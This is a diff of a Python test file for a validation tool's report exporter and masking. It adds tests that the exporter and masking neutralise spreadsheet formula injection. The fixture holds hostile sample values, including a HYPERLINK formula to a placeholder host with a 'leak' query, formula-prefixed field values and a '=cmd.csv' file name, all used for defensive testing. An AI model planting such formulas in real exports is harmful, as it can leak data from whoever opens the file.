@@ -7,12 +7,14 @@ import json
 from pathlib import Path
 
 import openpyxl
+import polars as pl
 import pytest
 from odf.opendocument import load
 from odf.table import Table, TableRow
 from tests.builders import check, records, write
 
 from aedx.validation.export import UnknownReportFormat, write_report
+from aedx.validation.masking import mask_id, mask_name
 from aedx.validation.report import Report
 
 C = "case_referral"
@@ -65,3 +67,43 @@ def test_every_export_holds_every_finding(report: Report, tmp_path: Path) -> Non
 def test_personal_data_is_masked(report: Report) -> None:
     values = dict(zip(report.findings["code"], report.findings["value"], strict=True))
     assert values["id.checksum"] == "A12****788"
+
+
+FORMULA = '=HYPERLINK("http://example.test/?leak","click")'
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Report:
+    """Values a spreadsheet would read as formulas, in a public field and in personal ones."""
+    rows = records(
+        C,
+        {"postcode": FORMULA},
+        {"representative_id": "=A12345678"},
+        {"obligor_name": "@SUM(1+1)\t"},
+        {"debt_type": "-2+3\r"},
+    )
+    return check(write(tmp_path / "=cmd.csv", C, rows), C)
+
+
+def test_no_export_holds_a_live_formula(hostile: Report, tmp_path: Path) -> None:
+    values = set(hostile.findings["value"].drop_nulls())
+    assert FORMULA in values  # the public value is reported as sent
+    write_report(hostile, tmp_path / "r.xlsx")
+    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert FORMULA in {c.value for c in cells}  # a string cell, shown as it was sent
+    assert {c.value for c in cells if c.data_type == "n"} >= {1, 2, 3}  # row numbers stay numbers
+    write_report(hostile, tmp_path / "r.csv")
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as handle:
+        cells_csv = [cell for row in csv.reader(handle) for cell in row]
+    assert "'" + FORMULA in cells_csv
+    assert not [c for c in cells_csv if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_masking_never_leaves_a_formula(hostile: Report) -> None:
+    masked = hostile.findings.filter(pl.col("field").is_in(["representative_id", "obligor_name"]))
+    assert masked.height == 2
+    assert not [v for v in masked["value"] if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "*A1****678" in set(masked["value"])
+    assert mask_id("=A12345678") == "*A1****678" and mask_name("=王") == "○○"
